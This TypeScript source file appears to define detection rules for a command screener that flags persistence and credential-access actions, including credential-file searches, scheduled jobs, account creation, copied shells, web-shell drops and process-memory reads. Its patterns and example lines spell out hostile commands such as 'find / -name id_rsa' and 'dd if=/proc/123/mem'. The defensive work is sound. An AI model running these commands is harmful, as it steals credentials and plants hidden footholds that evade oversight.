// Rules about what somebody does who stays on a machine: later runs, new accounts, copied shells, searches for credentials.
import { SHELLS } from '../../carriers/wrappers.ts'
import { resolvePath } from '../../line/paths.ts'
import { baseName } from '../../model.ts'
import { EVERYBODYS, type FormRule } from '../kit.ts'
import { CRON_REPLACE } from './schedule.ts'

/** Names, or patterns of names, of files that hold credentials. */
const CREDENTIALS =
  /^\*?\.?(?:id_(?:rsa|dsa|ecdsa|ed25519)\S*|\S*\.(?:pem|ppk|kdbx|pfx|p12|keytab|ovpn|jks|key)|credentials?(?:\.\w+)?|accessTokens\.json|access_tokens\.db|msal_token_cache\S*|azureProfile\.json|\S*passw(?:or)?d\S*|netrc|pgpass|htpasswd|gnupg|aws|azure|ssh|logins\.json|key[34]\.db|shadow\S*|vault_pass\S*|token)$/i
const WORDS =
  /passw(?:or)?d|passwd|secret|credential|api[_-]?key|private key|BEGIN (?:RSA|OPENSSH)|token|\bAKIA|\bghp_/i

/** Commands that have others run later; a unit of systemd is named by its file only if it does not stand where units belong. */
const RUNS_LATER = {
  finds: `
    systemd-run --on-*
    loginctl enable-linger
    systemctl enable|link|start|reenable <unit>
    at * !-l|-c|-d|-r|-V|-q
    batch !-l|-c|-d|-r|-V|-q`,
  named: { unit: /^(?!\/(?:etc|usr|lib)\/).*\// },
}

export const FOOTHOLD_RULES: readonly FormRule[] = [
  {
    id: 'credentials-searched',
    level: 'moderate',
    why: 'Searches the system or a home for passwords and keys.',
    finds: `
      find|gfind tops<wide>? -name|-iname|-path|-ipath|-regex|-iregex=<credential>
      _ tops@root|home|system|inside-system|keys? -name|-iname|-path|-ipath|-regex|-iregex=<credential>
      locate|plocate <credential>
      fd|grep|egrep|rg|ag {words}? * @root|home|system|keys?
      _ {words}? * <history>?`,
    named: {
      credential: ({ text }) => CREDENTIALS.test(baseName(text)),
      wide: /^\//,
      words: WORDS,
      history: /\.(?:bash|zsh)_history$/,
    },
    example: 'find / -name id_rsa',
  },
  {
    id: 'runs-later',
    level: 'moderate',
    why: 'Has a command run later, when nobody is looking.',
    ...RUNS_LATER,
    example: "systemd-run --on-calendar '*:0/1' ./job",
  },
  {
    id: 'tool-schedules',
    level: 'high',
    caller: 'tool',
    why: 'An AI tool has something run later, and nobody judges that when it happens.',
    finds: `${RUNS_LATER.finds}${CRON_REPLACE.finds}`,
    named: { ...RUNS_LATER.named, ...CRON_REPLACE.named },
    example: 'crontab jobs',
  },
  {
    id: 'unit-from-shared',
    level: 'high',
    why: 'Starts a unit from a directory in which every user and program can put files.',
    finds: 'systemctl enable|link|start|reenable <shared>',
    named: { shared: EVERYBODYS },
    example: 'systemctl enable /tmp/job.service',
  },
  {
    id: 'account-add',
    level: 'moderate',
    given: 'high',
    why: 'Adds an account, or changes with which shell one logs in.',
    finds: `
      ldapadd|ldapmodify *
      _ -*
      !--help|-h|-l|--list-shells|-D
      samba-tool user create|add
      ipa user-add*|sudorule-add*|role-add*
      pw useradd|usermod
      dscl … create|append|passwd
      dscl -create|-append|-passwd
      useradd|adduser|newusers|chsh *`,
    example: 'useradd -s /bin/bash x',
  },
  {
    id: 'shell-copied',
    level: 'moderate',
    why: 'Puts a shell or another program of the system where rules and logs do not look for it.',
    finds: `
      cp|gcp|install|ln|mv * * !last<named> sources<shell>
      cp|gcp|install|mv * * !last<named> last<shared>? sources<program>`,
    named: {
      named: ({ text }, { scope }) => SHELLS.has(baseName(resolvePath(text, scope))),
      shared: ({ text }, { scope }) => EVERYBODYS.test(resolvePath(text, scope)),
      shell: /^\/(?:usr\/)?(?:local\/)?bin\/(?:ba|z|da|k|fi)?sh$/,
      program: /^\/(?:usr\/)?s?bin\/[^/]+$/,
    },
    example: 'cp /bin/sh /tmp/crond',
  },
  {
    id: 'web-code',
    level: 'moderate',
    why: 'Puts a program where a web server runs it for everybody who asks for it.',
    finds: '* changes<webcode>',
    example: 'curl -o /var/www/html/up.php https://example.com/up.txt',
  },
  {
    id: 'commands-watched',
    level: 'moderate',
    why: 'Runs something at each command that is typed, or records it.',
    finds: `
      trap * <debug>
      auditctl words<rules>`,
    named: { debug: /^(?:SIG)?DEBUG$/, rules: /^-[aAwWd]$/ },
    example: "trap 'echo $BASH_COMMAND >> /tmp/log' DEBUG",
  },
  {
    id: 'memory-read',
    level: 'moderate',
    why: 'Reads the memory of a running program, with the passwords in it, runs code in it, or hides it.',
    finds: String.raw`
      gcore *
      dd|cat|strings|xxd|hexdump|grep|head|tail|cp words<memory>
      gdb /(?:^| )(?:-p|--pid|attach)[= ]?\d.{0,600}(?:\bcall\b|-batch|-ex|dump|generate-core)|^(?:-p|--pid)[= ]1$/
      strace|ltrace /(?:^| )-p.{0,300}(?:ssh|sudo|passwd|login|agent|\bsu\b)/
      mount /(?:--bind|-B|-o \S{0,80}bind|-t tmpfs|--move|-M) .{0,300}/proc/[\d$]/
      procdump /(?:^| )-(?:p|pid|w)\b/`,
    named: {
      memory:
        /^(?:if=)?\/proc\/(?:(?!self|meminfo)[^/]+\/(?:mem|maps?|pagemap)|self\/mem)$|^(?:if=)?\/dev\/k?mem$/,
    },
    example: 'dd if=/proc/123/mem of=/tmp/x',
  },
]
